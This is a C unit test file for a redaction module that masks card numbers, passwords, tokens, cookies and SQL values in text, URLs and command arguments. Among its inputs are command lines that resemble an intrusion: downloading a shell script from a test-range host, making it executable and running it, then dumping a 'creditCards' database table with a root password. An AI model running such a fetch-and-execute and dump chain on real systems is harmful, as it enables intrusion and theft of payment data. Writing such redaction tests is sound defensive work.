/* What must go, and, as important, what must stay. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "agent/redact/redact.h"

struct row {
	const char *text, *expected; /* expected NULL: stays as it is; arguments are written with | for NUL */
};

static void check(const struct row *row, enum fp_redact_kind kind)
{
	const char *expected = row->expected ? row->expected : row->text;
	struct fp_buffer out = FP_BUFFER_INIT, again = FP_BUFFER_INIT;
	size_t len = strlen(row->text);
	char *copy = malloc(len ? len : 1);
	int r;

	assert_non_null(copy);
	for (size_t i = 0; i < len; i++)
		copy[i] = kind == FP_REDACT_ARGV && row->text[i] == '|' ? '\0' : row->text[i];
	r = fp_redact(&out, copy, len, kind);
	assert_true(r >= 0);
	assert_true(out.len <= 4 * len);
	/* whoever asks first, for names, misses nothing */
	assert_true(kind != FP_REDACT_TEXT || r == 0 || fp_redact_is_needed(copy, len));
	fp_redact(&again, out.data, out.len, kind);
	assert_int_equal(again.len, out.len);
	for (size_t i = 0; i < out.len; i++)
		if (kind == FP_REDACT_ARGV && out.data[i] == '\0')
			out.data[i] = '|';
	for (size_t i = 0; i < again.len; i++)
		if (kind == FP_REDACT_ARGV && again.data[i] == '\0')
			again.data[i] = '|';
	if (len)
		assert_string_equal(out.data, expected);
	if (len)
		assert_string_equal(again.data, expected);
	assert_int_equal(r > 0, strcmp(expected, row->text) != 0);
	fp_buffer_done(&out);
	fp_buffer_done(&again);
	free(copy);
}

static void check_rows(const struct row *rows, size_t n, enum fp_redact_kind kind)
{
	for (size_t i = 0; i < n; i++)
		check(&rows[i], kind);
}

#define CHECK_ROWS(rows, kind) check_rows(rows, sizeof(rows) / sizeof(rows[0]), kind)

static void cards(void **state)
{
	static const struct row rows[] = {
		{"4111111111111111", "***"},
		{"card 4111 1111 1111 1111, please", "card ***, please"},
		{"5500-0000-0000-0004", "***"},
		{"{\"n\":\"378282246310005\"}", "{\"n\":\"***\"}"},
		{"3782 822463 10005", "***"},
		{"6011111111111117|x", "***|x"},
		{"4222222222222", "***"},
		{"2223003122003222", "***"},
		{"4111111111111111 5500000000000004", "*** ***"},
		{"4111 1111 1111 1111 12/27", "*** 12/27"},
		{"a=4111%201111%201111%201111&b", "a=***&b"},
		{"a=4111+1111+1111+1111", "a=***"},
		{"x%204111111111111111", "x%20***"},
	};

	CHECK_ROWS(rows, FP_REDACT_TEXT);
}

static void not_cards(void **state)
{
	static const struct row rows[] = {
		{"4111111111111112", NULL}, /* wrong check digit */
		{"1700000000000", NULL}, /* ms; and one whose check digit is right */
		{"1700000000009", NULL}, {"1732152440000000000", NULL}, {"1732152440000000006", NULL},
		{"9111111111111119", NULL}, /* right check digit, nobody's prefix */
		{"411111111111116", NULL}, /* 15 digits: not Visa's length */
		{"2026-11-21 01:27:14.411111111111111100", NULL},
		{"2026-11-21T01:27:14Z", NULL},
		{"6c511900-4111-1111-1111-111111111111", NULL},
		{"0.4111111111111111", NULL},
		{"a4111111111111111", NULL}, {"4111111111111111b", NULL},
		{"41111111111111111111111111", NULL},
		{"198.18.0.2:8080 127.0.0.1", NULL},
		{"+44 20 7946 0958", NULL},
		{"41 11 11 11 11 11 11 11", NULL},
		{"dbc70bd5-1f0a-4bb1-9a37-5c1d0e8f7a61", NULL},
		{"", NULL},
	};

	CHECK_ROWS(rows, FP_REDACT_TEXT);
}

static void named(void **state)
{
	static const struct row rows[] = {
		{"password=hunter2 x", "password=*** x"},
		{"DB_PASSWORD=a;b", "DB_PASSWORD=***;b"},
		{"dbPass=x y", "dbPass=*** y"},
		{"MYSQL_PWD=x", "MYSQL_PWD=***"},
		{"password: hunter2, user: bob", "password: ***, user: bob"},
		{"{\"password\": \"a \\\" b\", \"user\":\"bob\"}", "{\"password\": \"***\", \"user\":\"bob\"}"},
		{"{\\\"token\\\":\\\"abc\\\",\\\"n\\\":1}", "{\\\"token\\\":\\\"***\\\",\\\"n\\\":1}"},
		{"'secret' => 'x y'", "'secret' => '***'"},
		{"{\"creditCard\":\"1234\",\"user\":\"a\"}", "{\"creditCard\":\"***\",\"user\":\"a\"}"},
		{"Authorization: Basic YTpi\nHost: h", "Authorization: ***\nHost: h"},
		{"Proxy-Authorization: Digest a=\"b\", c\r\nX: y", "Proxy-Authorization: ***\r\nX: y"},
		{"Cookie: a=b; c=d\nX: y", "Cookie: ***\nX: y"},
		{"set-cookie: a=b; Path=/", "set-cookie: ***"},
		{"X-Api-Key: abc def", "X-Api-Key: *** def"},
		{"-H 'Authorization: Bearer abc def' http://h/", "-H 'Authorization: ***' http://h/"},
		{"sent Bearer eyJhbGciOi.x-y_z to h", "sent Bearer *** to h"},
		{"postgres://bob:s3cret@db/x", "postgres://bob:***@db/x"},
		{"https://ghp_abcdef@github.test/x", "https://***@github.test/x"},
	};
	static const struct row stay[] = {
		{"max_tokens=100", NULL}, {"tokenizer=gpt", NULL}, {"compass=north", NULL}, {"bypass=1", NULL},
		{"password_file=/run/secrets/db", NULL}, {"PASSWORD", NULL}, {"the bearer of this", NULL},
		{"http://h:8080/a@b", NULL}, {"key=value", NULL}, {"cookies: 3", NULL}, {"user=bob", NULL},
		{"secretary=eve", NULL}, {"author: x", NULL}, {"=x", NULL}, {":", NULL}, {"password=", NULL},
	};

	CHECK_ROWS(rows, FP_REDACT_TEXT);
	CHECK_ROWS(stay, FP_REDACT_TEXT);
}

static void urls(void **state)
{
	static const struct row rows[] = {
		{"/f?token=abc&id=7&sig=x#top", "/f?token=***&id=7&sig=***#top"},
		{"/f?key=abc&api_key=d", "/f?key=***&api_key=***"},
		{"/f?X-Amz-Signature=ab&X-Amz-Date=20261121T0127Z", "/f?X-Amz-Signature=***&X-Amz-Date=20261121T0127Z"},
		{"http://u:p@h:80/x?password=%41", "http://u:***@h:80/x?password=***"},
		{"/card/4111111111111111/x", "/card/***/x"},
		{"/f?access_token=a.b.c", "/f?access_token=***"},
	};
	static const struct row stay[] = {
		{"/function/authorize-cc?id=6c511900&t=1732152440123", NULL}, {"http://198.18.9.9:8000/sqldump.sh", NULL},
		{"/a?keyword=x&tokens=3&monkey=y", NULL}, {"http://token:8080/", NULL}, {"*", NULL},
		{"helloRetail.creditCards", NULL},
	};

	CHECK_ROWS(rows, FP_REDACT_URL);
	CHECK_ROWS(stay, FP_REDACT_URL);
}

static void arguments(void **state)
{
	static const struct row rows[] = {
		{"mysqldump|-uroot|-phunter2|helloRetail|creditCards", "mysqldump|-uroot|-p***|helloRetail|creditCards"},
		{"/usr/bin/mariadb-dump|-p|db", NULL},
		{"mysql|--password=a b|db", "mysql|--password=***|db"},
		{"mysql|-Bpx", "mysql|-Bp***"},
		{"mysql|-upeter|-Psmtp|-hpc", NULL},
		{"sh|-c|mysqldump -u root -phunter2 db > /tmp/x; cp -pr a b", "sh|-c|mysqldump -u root -p*** db > /tmp/x; cp -pr a b"},
		{"sh|-c|cat x | mysql -px", "sh|-c|cat x | mysql -p***"},
		{"mysql|-e|SELECT * FROM t WHERE card='x' AND n=42 LIMIT 1",
		 "mysql|-e|SELECT * FROM t WHERE card='***' AND n=*** LIMIT ***"},
		{"mysql|-eINSERT INTO `t1` VALUES (\"a\")|db", "mysql|-eINSERT INTO `t1` VALUES (\"***\")|db"},
		{"mysql|--execute=SELECT 7", "mysql|--execute=SELECT ***"},
		{"sh|-c|mysql -e \"SELECT 'x'\" > 'out 1'", "sh|-c|mysql -e \"SELECT '***'\" > 'out 1'"},
		{"sh|-c|mysql --execute='SELECT \"x\"' 12", "sh|-c|mysql --execute='SELECT \"***\"' 12"},
		{"psql|-c|SELECT 'x'|-U|bob", "psql|-c|SELECT '***'|-U|bob"},
		{"env|MYSQL_PWD=a b|mysql|-uroot", "env|MYSQL_PWD=***|mysql|-uroot"},
		{"curl|-u|bob:x|http://h/", "curl|-u|bob:***|http://h/"},
		{"curl|-ubob:x|http://h/", "curl|-ubob:***|http://h/"},
		{"curl|-H|Authorization: Bearer abc|http://h/", "curl|-H|Authorization: ***|http://h/"},
		{"curl|-b|a=b|http://h/", "curl|-b|***|http://h/"},
		{"sh|-c|curl --user bob:x http://h/", "sh|-c|curl --user bob:*** http://h/"},
		{"sshpass|-p|x|ssh|h", "sshpass|-p|***|ssh|h"},
		{"sshpass|-px|ssh|-p|22|h", "sshpass|-p***|ssh|-p|22|h"},
		{"redis-cli|-a|x|GET|k", "redis-cli|-a|***|GET|k"},
		{"app|--password|x|--api-key|y|--verbose", "app|--password|***|--api-key|***|--verbose"},
		{"node|app.js|{\"creditCard\":\"4111 1111 1111 1111\"}", "node|app.js|{\"creditCard\":\"***\"}"},
	};
	static const struct row stay[] = {
		{"node|index.js|--port|3000", NULL}, {"/bin/sh|/home/app/sqldump.sh", NULL}, {"cp|-pr|a|b", NULL},
		{"wget|-O|/home/app/sqldump.sh|http://198.18.9.9:8000/sqldump.sh", NULL},
		{"chmod|0777|/home/app/sqldump.sh", NULL}, {"mysqldump|helloRetail|creditCards", NULL},
		{"mysql|--password|db", NULL}, {"app|--password|--verbose", NULL}, {"ls|-la||", NULL},
		{"sh|-c|mkdir -p /tmp/x && ls -p", NULL}, {"sleep|1700000000009", NULL},
		{"openssl|--key=/etc/tls.key", NULL}, {"python3|-c|print(7)", NULL}, {"|", NULL},
	};

	CHECK_ROWS(rows, FP_REDACT_ARGV);
	CHECK_ROWS(stay, FP_REDACT_ARGV);
}

static void statements(void **state)
{
	static const struct row rows[] = {
		{"SELECT a FROM t WHERE b='x''y' OR c=\"z\" OR d=1.5", "SELECT a FROM t WHERE b='***' OR c=\"***\" OR d=***.***"},
		{"INSERT INTO `t 1` VALUES (1, 'never closed", "INSERT INTO `t 1` VALUES (***, '***"},
		{"SELECT a FROM t", NULL},
	};

	CHECK_ROWS(rows, FP_REDACT_SQL);
}

static void long_text(void **state)
{
	struct fp_buffer text = FP_BUFFER_INIT, out = FP_BUFFER_INIT;

	for (int i = 0; i < 2000; i++)
		fp_buffer_add_text(&text, "a 4111111111111111 ");
	fp_buffer_add_text(&out, "before ");
	assert_int_equal(fp_redact(&out, text.data, text.len, FP_REDACT_TEXT), 2000);
	assert_memory_equal(out.data, "before a *** a ***", 18);
	fp_buffer_done(&text);
	fp_buffer_done(&out);
}

static void most_names_need_no_look(void **state)
{
	static const char *const names[] = {"", "/usr/lib/python3.11/http/__pycache__/client.cpython-311.pyc", "/proc/12345/task/12346/status",
					    "/var/lib/mysql/helloRetail/creditCards.ibd", "/home/app/2026-11-21-010203.log"};

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		assert_int_equal(fp_redact_is_needed(names[i], strlen(names[i])), i == 4);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(cards), cmocka_unit_test(not_cards), cmocka_unit_test(named),
		cmocka_unit_test(urls), cmocka_unit_test(arguments), cmocka_unit_test(statements),
		cmocka_unit_test(long_text), cmocka_unit_test(most_names_need_no_look),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
